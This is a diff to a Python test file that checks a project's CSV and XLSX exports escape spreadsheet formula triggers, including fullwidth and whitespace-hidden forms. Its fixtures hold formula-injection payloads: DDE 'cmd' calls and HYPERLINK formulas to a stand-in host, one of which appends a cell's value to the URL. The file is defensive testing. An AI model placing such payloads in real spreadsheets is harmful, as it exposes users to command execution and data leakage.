@@ -33,7 +33,14 @@ APQC_ID = "apqc-pcf-cross-industry-7.4"
 HOSTILE = {
     20635: ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0"),
     20636: ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
+    # the fullwidth forms (U+FF1D, U+FF0B, U+FF20, U+FF0D), formula starts in some locales
+    20637: ('\uff1dHYPERLINK("http://evil.example/","click")', "\uff0bcmd|' /C calc'!A0"),
+    20638: ("\uff20SUM(1+1)*cmd|' /C calc'!A0", "\uff0d2+3+cmd|' /C calc'!A0"),
 }
+#: What a spreadsheet may run, written out here rather than taken from pcfgraph.cells: a
+#: trigger (or its fullwidth form) after any leading spaces or control characters, or a
+#: control character first.
+RUNNABLE = re.compile(r"^[\s\x00-\x1f\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\x00-\x1f]")
 
 
 def hostile_workbook(path: Path) -> Path:
@@ -84,7 +91,7 @@ def assert_csv_inert(data: bytes, delimiter: str = ",") -> set[str]:
         for row in csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=delimiter)
         for c in row
     ]
-    risky = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
+    risky = [c for c in cells if RUNNABLE.match(c)]
     assert risky == []
     return {c[1:] for c in cells if c.startswith("'")}
 
@@ -93,12 +100,87 @@ def test_safe_cell_follows_the_owasp_rule() -> None:
     for trigger in FORMULA_TRIGGERS:
         assert safe_cell(f"{trigger}1") == f"'{trigger}1"
     assert safe_cell("Develop a vision") == "Develop a vision"
+    for benign in (" Develop", "a=1", "x-y", "\u3000Develop", "'=1"):
+        assert safe_cell(benign) == benign
     assert safe_cell(-3) == -3 and safe_cell(None) is None  # numbers stay numbers
     data = write_csv(["a"], [["\r=1+1"], ["\t=1"]], delimiter="\t")
     assert assert_csv_inert(data, "\t") == {"\r=1+1", "\t=1"}
     # A CR inside a cell must not start a new row (whose first cell would be a formula).
     data = write_csv(None, [["note\r=1+1", "b"]])
     assert list(csv.reader(io.StringIO(data.decode(), newline=""))) == [["note\r=1+1", "b"]]
+
+
+#: Spreadsheet payloads that hide their trigger: fullwidth forms (Excel and LibreOffice in East
+#: Asian locales), spaces or control characters before it (run once an import trims them), a
+#: line feed or NUL first; DDE and HYPERLINK payloads as OWASP lists them.
+HIDDEN = (
+    '\uff1dHYPERLINK("http://evil.example/")',
+    "\uff0bcmd|' /C calc'!A0",
+    "\uff0d2+3",
+    "\uff20SUM(1+1)",
+    " =cmd|' /C calc'!A0",
+    "  +1+1",
+    "\u3000\uff1d1+1",
+    "\u00a0-1+1",
+    "\t \t@SUM(A1)",
+    "\r\n=1+1",
+    '\n=DDE("cmd";"/C calc";"!A0")',
+    "\x00=1",
+    "\x0b+1",
+    "\ufeff=1+1",
+)
+
+
+@pytest.mark.parametrize("delimiter", [",", "\t"])
+def test_hidden_triggers_are_escaped_in_every_csv(delimiter: str) -> None:
+    for text in HIDDEN:
+        assert safe_cell(text) == "'" + text, repr(text)
+    data = write_csv(["cell"], [[t] for t in HIDDEN], delimiter=delimiter)
+    assert assert_csv_inert(data, delimiter) == set(HIDDEN)
+
+
+def test_hidden_triggers_get_quote_prefix_in_xlsx() -> None:
+    from openpyxl import Workbook
+
+    from pcfgraph.cells import safe_xlsx_sheet
+
+    wb = Workbook()
+    ws = wb.active
+    assert ws is not None
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    storable = [t for t in HIDDEN if not ILLEGAL_CHARACTERS_RE.search(t)]  # no NUL, VT
+    assert len(storable) >= 10
+    for text in storable:
+        ws.append([text, "plain"])
+    safe_xlsx_sheet(ws)
+    buf = io.BytesIO()
+    wb.save(buf)
+    back = load_workbook(buf).active
+    assert back is not None
+    for row in back.iter_rows():
+        assert row[0].data_type == "s" and row[0].quotePrefix, repr(row[0].value)
+        assert not row[1].quotePrefix
+
+
+def test_the_sparql_page_downloads_with_the_same_rule() -> None:
+    """The query page's CSV download (sparql.js) applies the server's pattern, given to it
+    by the page, not a copy of its own."""
+    import html
+
+    from fastapi.testclient import TestClient
+    from test_web_pages import web_app
+
+    from pcfgraph.cells import RISKY_PATTERN
+
+    with TestClient(web_app()) as client:
+        r = client.get("/sparql", headers={"accept": "text/html"})
+        js = client.get("/assets/sparql.js").text
+    m = re.search(r'data-risky-cell="([^"]*)"', r.text)
+    assert m is not None and html.unescape(m.group(1)) == RISKY_PATTERN
+    assert 'getAttribute("data-risky-cell")' in js and "risky.test(v)" in js
+    pattern = re.compile(RISKY_PATTERN)
+    assert all(pattern.match(t) for t in HIDDEN) and not pattern.match("Develop")
 
 
 def test_spreadsheet_csv_export_escapes_hostile_definitions(store: EmbeddedStore) -> None:
